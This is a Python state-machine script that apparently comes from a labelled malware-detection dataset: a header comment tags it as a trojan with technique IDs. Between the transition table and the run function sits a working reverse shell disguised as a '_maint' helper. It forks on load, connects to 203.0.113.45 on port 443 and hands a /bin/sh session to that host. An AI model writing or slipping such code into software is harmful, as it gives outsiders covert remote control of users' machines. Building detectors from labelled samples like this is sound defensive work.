# label: malicious family=trojan techniques=T1059.004,T1095 lines=22,24-25,27 group=benign/b167_enum_state_machine.py
from enum import Enum, auto


class State(Enum):
    IDLE = auto()
    RUNNING = auto()
    PAUSED = auto()
    DONE = auto()


TRANSITIONS = {
    (State.IDLE, "start"): State.RUNNING,
    (State.RUNNING, "pause"): State.PAUSED,
    (State.PAUSED, "resume"): State.RUNNING,
    (State.RUNNING, "finish"): State.DONE,
}


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

def run(events):
    s = State.IDLE
    for e in events:
        s = TRANSITIONS.get((s, e), s)
        print(f"{e:8} -> {s.name}")
    return s


run(["start", "pause", "resume", "finish", "start"])
